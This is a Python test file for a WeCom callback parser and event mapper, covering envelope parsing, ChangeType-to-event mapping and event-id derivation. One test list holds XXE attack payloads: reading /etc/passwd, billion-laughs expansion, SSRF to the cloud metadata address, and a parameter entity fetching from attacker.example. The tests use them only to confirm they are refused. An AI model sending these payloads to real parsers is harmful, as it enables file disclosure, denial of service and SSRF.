"""WeCom callback XML: the envelope, the decrypted message, and the events each ChangeType maps to.

Fixtures follow WeCom's published examples of the external-contact change callbacks
(developer.work.weixin.qq.com/document/path/92130 "客户联系 > 变更回调": 添加企业客户事件,
外部联系人免验证添加成员事件, 编辑企业客户事件, 删除企业客户事件, 删除跟进成员事件,
客户接替失败事件), with the field names WeCom sends.
"""

from __future__ import annotations

import uuid
from datetime import UTC, datetime

import pytest

from contact_svc.domain.callbacks import (
    MAPPED_CHANGE_TYPES,
    SOURCE,
    UnmappableCallback,
    event_id_for,
    events_for,
    payload_hash,
)
from contact_svc.wecom.callback import (
    CallbackXmlError,
    ForbiddenXmlError,
    parse_envelope,
    parse_message,
    render_reply,
)
from scrm_shared.events import (
    ContactUpdatedEvent,
    FriendAddedEvent,
    FriendDeletedEvent,
    TransferFailedEvent,
    parse_event,
)

TENANT = "lotus-baby"
CORP = "ww1436e0e65a779aee"
CUSTOMER = "wmAJ2GCAAAXtWyujaWJHDDGi0mACH71w"
CREATED = 1403610513
CREATED_AT = datetime(2014, 6, 24, 11, 48, 33, tzinfo=UTC)


def change(change_type: str, **fields: str) -> bytes:
    """A decrypted change_external_contact callback as WeCom sends it."""
    extra = "".join(f"<{k}><![CDATA[{v}]]></{k}>" for k, v in fields.items())
    return (
        f"<xml><ToUserName><![CDATA[{CORP}]]></ToUserName><FromUserName><![CDATA[sys]]></FromUserName>"
        f"<CreateTime>{CREATED}</CreateTime><MsgType><![CDATA[event]]></MsgType>"
        f"<Event><![CDATA[change_external_contact]]></Event>"
        f"<ChangeType><![CDATA[{change_type}]]></ChangeType>{extra}</xml>"
    ).encode()


def mapped(payload: bytes, tenant: str = TENANT):
    return events_for(tenant, parse_message(payload), payload_hash(payload))


# ---------------------------------------------------------------------------------------------
# Envelope
# ---------------------------------------------------------------------------------------------


def test_envelope_as_wecom_posts_it():
    # The shape of the POST body in WeCom's WXBizMsgCrypt sample (callback/Sample.py).
    body = (
        b"<xml><ToUserName><![CDATA[ww1436e0e65a779aee]]></ToUserName>\n"
        b"<Encrypt><![CDATA[Kl7kjoSf6DMD1zh7rtrHjFaDapSCkaOnwu3b+/==]]></Encrypt>\n"
        b"<AgentID><![CDATA[1000002]]></AgentID>\n</xml>"
    )
    envelope = parse_envelope(body)
    assert envelope.encrypt == "Kl7kjoSf6DMD1zh7rtrHjFaDapSCkaOnwu3b+/=="
    assert envelope.to_user_name == CORP
    assert envelope.agent_id == "1000002"


def test_envelope_without_agent_id_and_with_declaration():
    envelope = parse_envelope(b'<?xml version="1.0" encoding="UTF-8"?><xml><Encrypt>abc=</Encrypt></xml>')
    assert envelope.encrypt == "abc=" and envelope.agent_id is None


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml at all",
        b"<xml><Encrypt>abc</Encrypt>",  # truncated
        b"<xml><Encrypt>abc</Encrypt></xml><xml/>",  # two roots
        b"<root><Encrypt>abc</Encrypt></root>",  # not WeCom's root
        b"<xml><ToUserName>ww1</ToUserName></xml>",  # no Encrypt
        b"<xml><Encrypt>   </Encrypt></xml>",  # empty Encrypt
        b"\xff\xfe<\x00x\x00",  # garbage bytes
    ],
)
def test_malformed_envelopes_are_refused(body):
    with pytest.raises(CallbackXmlError):
        parse_envelope(body)


XXE_DOCUMENTS = [
    # classic XXE: an external entity reading a local file
    b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<xml><Encrypt>&xxe;</Encrypt></xml>",
    # billion laughs: nested internal entities
    b'<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><xml><Encrypt>&c;</Encrypt></xml>',
    # external DTD (SSRF)
    b'<!DOCTYPE xml SYSTEM "http://169.254.169.254/latest/meta-data/"><xml><Encrypt>x</Encrypt></xml>',
    # parameter entities
    b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><xml><Encrypt>x</Encrypt></xml>',
    # a harmless-looking internal entity is refused as well: no DTD at all is accepted
    b'<!DOCTYPE xml [<!ENTITY corp "ww1">]><xml><Encrypt>&corp;</Encrypt></xml>',
    # a bare doctype
    b"<!DOCTYPE xml><xml><Encrypt>x</Encrypt></xml>",
]


@pytest.mark.parametrize("document", XXE_DOCUMENTS)
def test_dtds_and_entities_are_refused_in_the_envelope(document):
    with pytest.raises(ForbiddenXmlError):
        parse_envelope(document)


@pytest.mark.parametrize("document", XXE_DOCUMENTS)
def test_dtds_and_entities_are_refused_in_the_decrypted_message(document):
    with pytest.raises(ForbiddenXmlError):
        parse_message(document)


def test_error_messages_never_quote_the_document():
    with pytest.raises(CallbackXmlError) as info:
        parse_message(b"<xml><Secret>wmSECRETID</Secret")
    assert "wmSECRETID" not in str(info.value)


def test_reply_xml_round_trips_through_the_envelope_parser():
    reply = render_reply("ZW5jcnlwdGVk+/=", "a" * 40, "1700000000", "n0nce")
    assert parse_envelope(reply.encode()).encrypt == "ZW5jcnlwdGVk+/="
    assert parse_message(reply.encode()).get("MsgSignature") == "a" * 40


# ---------------------------------------------------------------------------------------------
# Message parsing
# ---------------------------------------------------------------------------------------------


def test_message_fields_are_the_top_level_elements():
    message = parse_message(change("add_external_contact", UserID="zhangsan", ExternalUserID=CUSTOMER))
    assert message.msg_type == "event"
    assert message.event == "change_external_contact"
    assert message.change_type == "add_external_contact"
    assert message.external_userid == CUSTOMER
    assert message.get("CreateTime") == str(CREATED)
    assert message.get("State") is None


def test_escaped_text_and_cdata_are_decoded():
    message = parse_message(b"<xml><State>a&amp;b&lt;c</State><Content><![CDATA[x<y]]></Content></xml>")
    assert message.get("State") == "a&b<c"
    assert message.get("Content") == "x<y"


# ---------------------------------------------------------------------------------------------
# Mapping: every ChangeType
# ---------------------------------------------------------------------------------------------


def test_add_external_contact_is_friend_added():
    payload = change(
        "add_external_contact",
        UserID="zhangsan",
        ExternalUserID=CUSTOMER,
        State="store-sh-012",
        WelcomeCode="CALLBACK_WELCOME_CODE_123",
    )
    [out] = mapped(payload)
    assert out.topic == "friend-added"
    event = out.event
    assert isinstance(event, FriendAddedEvent)
    assert event.tenant_id == TENANT and event.source == SOURCE
    assert event.occurred_at == CREATED_AT
    assert event.data.external_userid == CUSTOMER
    assert event.data.staff_id == "zhangsan"
    assert event.data.state == "store-sh-012"
    assert event.data.welcome_code == "CALLBACK_WELCOME_CODE_123"
    assert event.data.added_at == CREATED_AT and event.data.added_at.utcoffset() is not None
    assert event.key() == f"{TENANT}:{CUSTOMER}".encode()
    # The event is what consumers will parse: the contract accepts it as it is.
    assert parse_event("friend-added", event.to_bytes()) == event


def test_add_without_state_or_welcome_code():
    # No channel code, and WeCom omits WelcomeCode once the pair has chatted.
    [out] = mapped(change("add_external_contact", UserID="zhangsan", ExternalUserID=CUSTOMER))
    assert out.event.data.state == ""
    assert out.event.data.welcome_code is None


def test_add_half_external_contact_is_friend_added():
    payload = change(
        "add_half_external_contact",
        UserID="lisi",
        ExternalUserID=CUSTOMER,
        State="poster-618",
        WelcomeCode="WELCOMECODE",
    )
    [out] = mapped(payload)
    assert out.topic == "friend-added"
    assert isinstance(out.event, FriendAddedEvent)
    assert (out.event.data.staff_id, out.event.data.state) == ("lisi", "poster-618")


def test_del_external_contact_is_friend_deleted_by_staff_with_source():
    payload = change(
        "del_external_contact", UserID="zhangsan", ExternalUserID=CUSTOMER, Source="DELETE_BY_TRANSFER"
    )
    [out] = mapped(payload)
    assert out.topic == "friend-deleted"
    assert isinstance(out.event, FriendDeletedEvent)
    assert out.event.data.deleted_by == "staff"
    assert out.event.data.source == "DELETE_BY_TRANSFER"
    assert out.event.data.staff_id == "zhangsan"
    assert out.event.data.deleted_at == CREATED_AT


def test_del_external_contact_without_source():
    [out] = mapped(change("del_external_contact", UserID="zhangsan", ExternalUserID=CUSTOMER))
    assert out.event.data.source is None


def test_del_follow_user_is_friend_deleted_by_customer():
    [out] = mapped(change("del_follow_user", UserID="zhangsan", ExternalUserID=CUSTOMER))
    assert out.topic == "friend-deleted"
    assert out.event.data.deleted_by == "customer"
    assert out.event.data.source is None


def test_edit_external_contact_is_contact_updated():
    [out] = mapped(change("edit_external_contact", UserID="zhangsan", ExternalUserID=CUSTOMER))
    assert out.topic == "contact-updated"
    assert isinstance(out.event, ContactUpdatedEvent)
    assert out.event.data.staff_id == "zhangsan"
    assert out.event.data.changed == ["profile"]
    assert out.event.data.updated_at == CREATED_AT
    assert out.event.key() == f"{TENANT}:{CUSTOMER}".encode()


@pytest.mark.parametrize("reason", ["customer_refused", "customer_limit_exceed"])
def test_transfer_fail_is_transfer_failed(reason):
    [out] = mapped(change("transfer_fail", FailReason=reason, UserID="wangwu", ExternalUserID=CUSTOMER))
    assert out.topic == "transfer-failed"
    assert isinstance(out.event, TransferFailedEvent)
    assert out.event.data.fail_reason == reason
    assert out.event.data.staff_id == "wangwu"
    assert out.event.data.failed_at == CREATED_AT


def test_every_mapped_change_type_is_covered():
    assert MAPPED_CHANGE_TYPES == {
        "add_external_contact",
        "add_half_external_contact",
        "del_external_contact",
        "del_follow_user",
        "edit_external_contact",
        "transfer_fail",
    }


@pytest.mark.parametrize(
    "payload",
    [
        # a text message to the app (WeCom's own sample)
        b"<xml><ToUserName>ww1436e0e65a779aee</ToUserName><FromUserName>ChenJiaShun</FromUserName>"
        b"<CreateTime>1476422779</CreateTime><MsgType>text</MsgType><Content>hello</Content>"
        b"<MsgId>1456453720</MsgId><AgentID>1000002</AgentID></xml>",
        # a customer group change
        b"<xml><ToUserName><![CDATA[ww1]]></ToUserName><FromUserName><![CDATA[sys]]></FromUserName>"
        b"<CreateTime>1403610513</CreateTime><MsgType><![CDATA[event]]></MsgType>"
        b"<Event><![CDATA[change_external_chat]]></Event><ChatId><![CDATA[wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA]]></ChatId>"
        b"<ChangeType><![CDATA[update]]></ChangeType><UpdateDetail><![CDATA[add_member]]></UpdateDetail>"
        b"<MemChangeList><Item>Jack</Item><Item>Rose</Item></MemChangeList></xml>",
        # a ChangeType WeCom may add one day
        change("some_future_change", UserID="zhangsan", ExternalUserID=CUSTOMER),
        # the app's own enter_agent event
        b"<xml><MsgType>event</MsgType><Event>enter_agent</Event><CreateTime>1</CreateTime></xml>",
    ],
)
def test_other_messages_and_events_map_to_nothing(payload):
    assert mapped(payload) == []


# ---------------------------------------------------------------------------------------------
# Unmappable changes and event ids
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("payload", "why"),
    [
        (change("add_external_contact", UserID="zhangsan"), "external_userid"),
        (change("add_external_contact", UserID="zhangsan", ExternalUserID=""), "external_userid"),
        (change("del_follow_user", ExternalUserID=CUSTOMER), "staff_id"),
        (change("transfer_fail", UserID="a", ExternalUserID=CUSTOMER), "fail_reason"),
        (
            change("add_external_contact", UserID="z", ExternalUserID=CUSTOMER).replace(
                str(CREATED).encode(), b"yesterday"
            ),
            "CreateTime",
        ),
        (
            change("add_external_contact", UserID="z", ExternalUserID=CUSTOMER).replace(
                str(CREATED).encode(), b"99999999999999999999"
            ),
            "CreateTime",
        ),
    ],
)
def test_changes_without_what_their_event_needs_are_unmappable(payload, why):
    with pytest.raises(UnmappableCallback, match=why) as info:
        mapped(payload)
    assert CUSTOMER not in str(info.value)  # where and why, never the values


def test_event_id_is_derived_from_the_payload_hash():
    payload = change("add_external_contact", UserID="zhangsan", ExternalUserID=CUSTOMER)
    [first] = mapped(payload)
    [again] = mapped(payload)
    assert first.event.event_id == again.event.event_id
    assert first.event.event_id == event_id_for(TENANT, payload_hash(payload), "friend-added")
    assert first.event.event_id.version == 5
    [other_tenant] = mapped(payload, tenant="west-lake-tea")
    assert other_tenant.event.event_id != first.event.event_id
    [other_payload] = mapped(change("add_external_contact", UserID="lisi", ExternalUserID=CUSTOMER))
    assert other_payload.event.event_id != first.event.event_id


def test_same_sender_and_create_time_do_not_collide():
    # FromUserName + CreateTime is "sys" + one second for every change in that second.
    a = mapped(
        change("add_external_contact", UserID="zhangsan", ExternalUserID="wmA0000000000000000000000001")
    )
    b = mapped(
        change("add_external_contact", UserID="zhangsan", ExternalUserID="wmA0000000000000000000000002")
    )
    assert a[0].event.event_id != b[0].event.event_id


def test_payload_hash_is_sha256_hex():
    digest = payload_hash(b"<xml/>")
    assert len(digest) == 64 and int(digest, 16) >= 0
    assert isinstance(event_id_for(TENANT, digest, "friend-added"), uuid.UUID)
